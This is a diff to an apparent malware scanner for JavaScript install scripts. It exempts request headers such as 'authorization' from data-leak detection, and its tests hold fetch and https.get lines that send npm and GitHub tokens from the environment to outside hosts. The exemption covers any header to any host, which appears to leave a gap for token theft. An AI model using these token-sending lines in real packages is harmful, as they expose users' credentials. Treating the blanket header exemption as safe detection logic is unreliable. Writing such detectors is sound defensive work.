@@ -471,7 +471,9 @@ impl<'t> Js<'t> {
         }
     }
 
-    /// What collected data an expression carries (function bodies inside it excluded).
+    /// What collected data an expression carries (function bodies inside it excluded, and
+    /// request headers: a token in `authorization` is how API clients and release
+    /// downloaders authenticate, not a leak).
     fn taint_of(&self, root: Node<'_>) -> u8 {
         let mut t = 0u8;
         let mut stack = vec![root];
@@ -484,6 +486,14 @@ impl<'t> Js<'t> {
             match n.kind() {
                 "identifier" | "shorthand_property_identifier" if self.unique(self.text(n)) => {
                     t |= self.taint.get(self.text(n)).copied().unwrap_or(0);
+                }
+                "pair"
+                    if n.child_by_field_name("key").is_some_and(|k| {
+                        let k = self.text(k).trim_matches(['\'', '"']).to_ascii_lowercase();
+                        matches!(k.as_str(), "headers" | "authorization" | "auth")
+                    }) =>
+                {
+                    continue;
                 }
                 "call_expression" => {
                     if let Some(f) = n.child_by_field_name("function") {
@@ -1286,6 +1296,11 @@ req.end();
                 .0
                 .contains(&"EXFIL-SEND-COLLECTED")
         );
+        // Nor is a token in the headers of an install-time download (release downloaders
+        // pass GITHUB_TOKEN against rate limits).
+        let dl =
+            "https.get(url, { headers: { authorization: 'token ' + process.env.GITHUB_TOKEN } })";
+        assert!(!run(dl, Scope::INSTALL).0.contains(&"EXFIL-SEND-COLLECTED"));
         let install = "fetch('https://api.example/x', { body: process.env.NPM_TOKEN })";
         assert!(
             run(install, Scope::INSTALL)
